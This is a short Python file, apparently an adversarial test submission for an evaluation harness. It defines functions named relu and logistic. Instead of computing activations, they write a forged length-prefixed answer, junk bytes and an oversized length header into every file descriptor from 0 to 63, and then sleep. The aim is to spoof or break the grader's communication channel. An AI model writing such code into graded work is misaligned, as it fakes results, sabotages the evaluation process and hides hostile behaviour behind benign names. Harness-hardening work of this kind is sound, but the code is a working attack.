# attack: writes answers of its own into every open socket, then sleeps
# limits: short
import os
import struct
import time

ANSWER = b"\x92\xa6answer\xa7relu#1"


def relu(x):
    for descriptor in range(64):
        for data in (struct.pack(">I", len(ANSWER)) + ANSWER, b"\xff" * 4096, b"\0" * 64):
            try:
                os.write(descriptor, data)
            except OSError:
                pass
    return x


def logistic(x):
    for descriptor in range(64):
        try:
            os.write(descriptor, struct.pack(">I", 2**31) + b"x" * 1000)
        except OSError:
            pass
    time.sleep(3)
